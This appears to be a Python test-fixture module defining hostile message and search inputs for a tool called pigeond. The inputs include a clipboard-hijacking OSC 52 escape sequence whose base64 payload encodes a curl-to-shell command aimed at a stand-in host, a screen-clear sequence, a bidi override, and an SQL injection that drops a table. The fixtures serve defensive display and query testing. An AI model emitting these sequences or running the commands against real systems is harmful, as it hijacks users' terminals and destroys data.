"""Message text that would command a terminal, and how pigeond must show it.

The terminal, CLI and TUI tests use them to check that fields are shown as data.
"""

from __future__ import annotations

import unicodedata

CLEAR_SCREEN = "\x1b[2J"
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
# What the issue saw: clear the screen, overwrite the clipboard, reverse what follows.
EVIL = CLEAR_SCREEN + OSC52_CLIPBOARD + "\u202e"
EVIL_SHOWN = "\\x1b[2J\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\u202e"


def raw_controls(text: str) -> set[str]:
    """The control and invisible format characters in ``text``, newline aside."""
    return {c for c in text if c != "\n" and unicodedata.category(c) in {"Cc", "Cf"}}


# Search text that would be FTS5 syntax, or break a naively built query, were it parsed:
# quotes, NEAR, prefixes, column filters, unbalanced parentheses, operators, an
# injection, a NUL, a bidi override, and the length and word bounds (see the search tests).
HOSTILE_SEARCHES = [
    '"', '""', '"unbalanced', "NEAR(", "NEAR(alpha beta, 2)", "*", "alpha*", "(", ")",
    "((alpha", "payload:alpha", "{payload kind}:alpha", "kind:chat", "-alpha", "^alpha",
    "alpha AND", "OR", "NOT alpha", "alpha + beta", "'; DROP TABLE swarm_messages; --",
    "\x00", "\u202e", "a" * 256, " ".join(["w"] * 17),
]  # fmt: skip
